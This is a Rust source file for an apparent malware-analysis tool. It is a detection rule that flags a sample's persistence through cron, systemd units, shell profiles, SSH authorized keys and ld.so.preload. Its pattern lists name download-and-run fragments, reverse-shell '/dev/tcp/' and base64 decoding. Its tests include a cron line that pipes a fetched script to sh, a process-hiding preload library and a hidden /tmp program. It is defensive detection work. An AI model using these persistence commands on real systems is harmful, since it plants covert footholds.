//! Sees the sample make itself come back: cron, keys, units, profiles, preloaded libraries.
//!
//! Honest entry points write cron tables, keys for their SSH server and profiles too, so the place is only a sign together with what
//! is written there.
//!
//! - Sees: a cron line, unit, profile or start script that downloads and runs, or runs something hidden or in a scratch folder; a public
//!   key written for a login where no SSH server runs; a library named in `ld.so.preload`.
//! - Misses: what is beyond the first bytes of a long file; changes of programs themselves.
//! - False alarms: images of cron and SSH servers (a fact), package managers (excused).
//! - Source: ATT&CK T1053.003, T1098.004, T1543.002, T1546.004, T1574.006, T1037.004.

use std::collections::HashSet;

use model::{Category, Confidence, Maturity, Severity, Weight, What};

use crate::{About, Behaviour, Judge, Match, indicators, payload, story::Story};

pub(super) const BEHAVIOUR: Behaviour = Behaviour {
    about: About {
        id: "persistence-made",
        title: "Makes itself come back",
        category: Category::Backdoor,
        weight: Weight::Proof,
        severity: Severity::High,
        confidence: Confidence::High,
        maturity: Maturity::Stable,
        techniques: &["T1053.003", "T1098.004", "T1543.002", "T1546.004", "T1574.006"],
    },
    judge: Judge::Run(judge),
};

fn judge(story: &Story<'_>) -> Vec<Match> {
    let serves_ssh = story.context.exposed.contains(&22)
        || story.programs().any(|program| {
            program.is(&[
                "sshd",
                "dropbear",
                "sshd-session",
                "gitea",
                "gogs",
                "gitolite",
                "forgejo",
                "gitlab-shell",
                "tinysshd",
            ])
        });
    let mut found: Vec<(&str, Match)> = Vec::new();
    let mut told: HashSet<(&str, bool)> = HashSet::new();
    for (at, event) in story.events() {
        let path = match &event.what {
            What::Write { path, .. }
            | What::Rename { to: path, result: 0.., .. }
            | What::Link { path, result: 0.., .. } => path,
            _ => continue,
        };
        let Some(place) = place(path) else { continue };
        if story.life_at(at).and_then(|life| story.life(life)).is_some_and(|life| life.installs) {
            continue;
        }
        let text = match &event.what {
            What::Write { head, .. } => Some(payload::text(head)),
            What::Link { target, .. } => Some(target.clone()),
            // What was renamed into place was written under another name.
            _ => before_rename(story, path),
        };
        if let Some(seen) = text.and_then(|text| judged(at, place, path, &text, serves_ssh))
            && told.insert((path, seen.weight == Some(Weight::Fact)))
            && told.len() < 256
        {
            found.push((place, seen));
        }
    }
    // One way back may be a service's own; who makes several means to stay.
    let counts = |seen: &Match| seen.weight != Some(Weight::Fact);
    let places: HashSet<&str> = found.iter().filter(|(_, seen)| counts(seen)).map(|(place, _)| *place).collect();
    if places.len() >= 2
        && let Some((_, first)) = found.iter_mut().find(|(_, seen)| counts(seen))
    {
        first.summary.push_str(&format!("; {} kinds of places in all", places.len()));
        (first.weight, first.maturity) = (Some(Weight::Proof), None);
    }
    found.into_iter().map(|(_, seen)| seen).collect()
}

/// What was written under the name that a file had before.
fn before_rename(story: &Story<'_>, path: &str) -> Option<String> {
    let (before, _) = story.file(path)?.before?;
    let file = story.file(before)?;
    let last = *file.writes.last()?;
    // The write itself is soon behind the opening that is remembered.
    (last..last + 64).find_map(|at| match story.what(at)? {
        What::Write { path, head, .. } if path == before => Some(payload::text(head)),
        _ => None,
    })
}

fn place(path: &str) -> Option<&'static str> {
    let name = crate::programs::base(path);
    if path.starts_with("/etc/cron") || path.starts_with("/var/spool/cron") || path == "/etc/anacrontab" {
        return Some("cron");
    }
    if path.ends_with("/.ssh/authorized_keys")
        || path.ends_with("/.ssh/authorized_keys2")
        || path.starts_with("/etc/ssh/authorized_keys")
    {
        return Some("keys");
    }
    if path == "/etc/ld.so.preload" {
        return Some("preload");
    }
    if (path.starts_with("/etc/systemd/system/")
        || path.starts_with("/lib/systemd/system/")
        || path.starts_with("/usr/lib/systemd/system/")
        || path.contains("/.config/systemd/user/"))
        && (name.ends_with(".service") || name.ends_with(".timer"))
    {
        return Some("unit");
    }
    if path == "/etc/rc.local"
        || path == "/etc/rc.d/rc.local"
        || path.starts_with("/etc/init.d/")
        || path.starts_with("/etc/local.d/")
        || path == "/etc/inittab"
        || path.starts_with("/etc/rc.d/init.d/")
    {
        return Some("start script");
    }
    let profile = [".bashrc", ".bash_profile", ".profile", ".zshrc", ".bash_login", ".zprofile"].contains(&name)
        || path == "/etc/profile"
        || path.starts_with("/etc/profile.d/")
        || path == "/etc/bash.bashrc"
        || path == "/etc/bashrc"
        || path == "/etc/zsh/zshrc";
    let desktop = path.contains("/.config/autostart/")
        || path.starts_with("/etc/update-motd.d/")
        || path.starts_with("/etc/udev/rules.d/");
    if profile {
        return Some("profile");
    }
    desktop.then_some("start script")
}

fn judged(at: usize, place: &str, path: &str, text: &str, serves_ssh: bool) -> Option<Match> {
    let line = text
        .lines()
        .find(|line| suspicious(line).is_some())
        .map(|line| model::text::shortened(line.trim(), 100).into_owned());
    let told = |what: &str| Match::new(at, format!("writes {path}: {what}"));
    if let Some(line) = line {
        let urls = text
            .split(|character: char| character.is_whitespace() || "\"'|;)(".contains(character))
            .filter(|word| word.starts_with("http://") || word.starts_with("https://"))
            .take(8)
            .map(indicators::url);
        let found = told(&line).with(urls.collect::<Vec<_>>());
        let downloads = text.lines().filter_map(suspicious).any(|how| how == Suspicion::Fetches);
        return Some(if downloads { found } else { found.sign() });
    }
    match place {
        "preload" => {
            let library = text.split_whitespace().next().unwrap_or("");
            let known =
                ["jemalloc", "tcmalloc", "mimalloc", "nss_wrapper", "faketime", "eatmydata", "gperftools", "hugetlbfs"]
                    .iter()
                    .any(|known| library.contains(known));
            (!library.is_empty()).then(|| if known { told(library).fact() } else { told(library) })
        }
        "keys" => {
            let key = text
                .split_whitespace()
                .find(|word| word.starts_with("ssh-") || word.starts_with("ecdsa-") || word.starts_with("sk-"));
            key.map(|_| {
                if serves_ssh {
                    told("a public key, for its SSH server").fact()
                } else {
                    told("a public key for a login").sign()
                }
            })
        }
        "unit" if text.contains("ExecStart") => Some(told("a unit").sign().draft()),
        "start script" if text.starts_with("#!") => Some(told("a start script").sign().draft()),
        "cron" => {
            let line =
                text.lines().map(str::trim).find(|line| !line.is_empty() && !line.starts_with('#')).unwrap_or("");
            Some(told(&model::text::shortened(line, 80)).fact())
        }
        _ => None,
    }
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Suspicion {
    /// Downloads and runs, or calls out.
    Fetches,
    /// Runs what is hidden or lies in a scratch folder.
    Hides,
}

fn suspicious(line: &str) -> Option<Suspicion> {
    let line = line.trim();
    if line.is_empty() || line.starts_with('#') {
        return None;
    }
    let fetches = ["curl ", "wget ", "lwp-download", "fetch "].iter().any(|tool| line.contains(tool));
    let runs = [
        "|sh",
        "| sh",
        "|bash",
        "| bash",
        "|/bin/sh",
        "|/bin/bash",
        "| /bin/bash",
        "| /bin/sh",
        "|python",
        "| python",
        "chmod +x",
        "chmod 7",
        "chmod a+x",
        "chmod u+x",
        "bash -c",
        "sh -c",
        "$(curl",
        "$(wget",
        "`curl",
        "`wget",
        "eval ",
        "&& sh ",
        "; sh ",
    ]
    .iter()
    .any(|how| line.contains(how));
    // A ping of a health service downloads and runs nothing.
    if fetches && runs && !line.contains(">/dev/null 2>&1 || ")
        || line.contains("/dev/tcp/")
        || line.contains("base64 -d") && runs
        || line.contains("base64 --decode") && runs
    {
        return Some(Suspicion::Fetches);
    }
    let hidden = ["/tmp/", "/var/tmp/", "/dev/shm/"].iter().any(|folder| {
        line.match_indices(folder).any(|(at, _)| {
            let before = line.get(..at).unwrap_or("").trim_end();
            // As a command, not as a place for output or a lock.
            before.is_empty()
                || before.ends_with(|end: char| end.is_ascii_digit() || "*=;&|\"'(@".contains(end))
                    && !before.ends_with("2>&1")
                || before.ends_with("root")
                || before.ends_with("sh")
                || before.ends_with("nohup")
                || before.ends_with("reboot")
                || before.ends_with("hourly")
        })
    });
    // A folder of one's own may have hidden settings; the system's have no hidden programs.
    let system = ["/usr/", "/var/", "/lib", "/bin/", "/sbin/", "/etc/", "/run/", "/dev/", "/tmp/"];
    let dotted = line.split(|character: char| character.is_whitespace() || "\"';=".contains(character)).any(|word| {
        system.iter().any(|folder| word.starts_with(folder))
            && word.split('/').any(|part| part.starts_with('.') && part.len() > 2 && !part.contains("env"))
    });
    (hidden || dotted).then_some(Suspicion::Hides)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{Run, hit, miss};

    #[test]
    fn a_cron_line_that_downloads() {
        let mut run = Run::new();
        run.write(1, "/var/spool/cron/crontabs/tmp.x", b"*/5 * * * * curl -fsSL http://files.example/a.sh | sh\n");
        run.rename(1, "/var/spool/cron/crontabs/tmp.x", "/var/spool/cron/crontabs/root");
        hit(&BEHAVIOUR, run, Weight::Proof, "curl -fsSL http://files.example/a.sh | sh");
    }

    #[test]
    fn a_preloaded_library_and_a_hidden_program() {
        let mut run = Run::new();
        run.write(1, "/etc/ld.so.preload", b"/usr/local/lib/libprocesshider.so\n");
        hit(&BEHAVIOUR, run, Weight::Proof, "libprocesshider");
        let mut run = Run::new();
        run.write(1, "/etc/cron.d/0upd", b"* * * * * root /tmp/.x/upd\n");
        hit(&BEHAVIOUR, run, Weight::Sign, "/tmp/.x/upd");
    }

    #[test]
    fn a_key_where_nobody_serves_ssh() {
        let mut run = Run::new();
        run.write(1, "/root/.ssh/authorized_keys", b"ssh-ed25519 AAAAC3Nz x\n");
        hit(&BEHAVIOUR, run, Weight::Sign, "a public key for a login");
    }

    #[test]
    fn several_places_at_once() {
        let mut run = Run::new();
        run.write(1, "/etc/systemd/system/x.service", b"[Service]\nExecStart=/usr/bin/x\n");
        run.write(1, "/root/.ssh/authorized_keys", b"ssh-ed25519 AAAAC3Nz x\n");
        hit(&BEHAVIOUR, run, Weight::Proof, "a unit; 2 kinds of places in all");
    }

    #[test]
    fn an_image_of_cron_is_none() {
        let mut run = Run::new();
        run.write(1, "/etc/crontabs/root", b"0 3 * * * /usr/local/bin/backup.sh >> /tmp/backup.log 2>&1\n*/5 * * * * curl -fsS https://hc.example/ping > /dev/null\n0 4 * * * wget -q https://x.example/l -O /data/l && chmod 644 /data/l\n");
        run.write(1, "/etc/cron.d/app", b"0 * * * * www-data php /app/cron.php > /tmp/cron.log\n");
        run.write(1, "/root/.bashrc", b"export PATH=$PATH:/root/.cargo/bin\n. /root/.nvm/nvm.sh\n");
        miss(&BEHAVIOUR, run);
    }

    #[test]
    fn an_ssh_server_with_the_users_key_is_none() {
        let mut run = Run::new();
        run.write(1, "/config/.ssh/authorized_keys", b"ssh-ed25519 AAAAC3Nz user@home\n");
        run.spawn(1, "/usr/sbin/sshd", &["sshd", "-D"]);
        let apt = run.spawn(1, "/usr/bin/dpkg", &["dpkg", "--configure", "-a"]);
        run.write(apt, "/lib/systemd/system/ssh.service", b"[Service]\nExecStart=/usr/sbin/sshd\n");
        run.write(apt, "/etc/init.d/ssh", b"#!/bin/sh\n");
        miss(&BEHAVIOUR, run);
    }
}
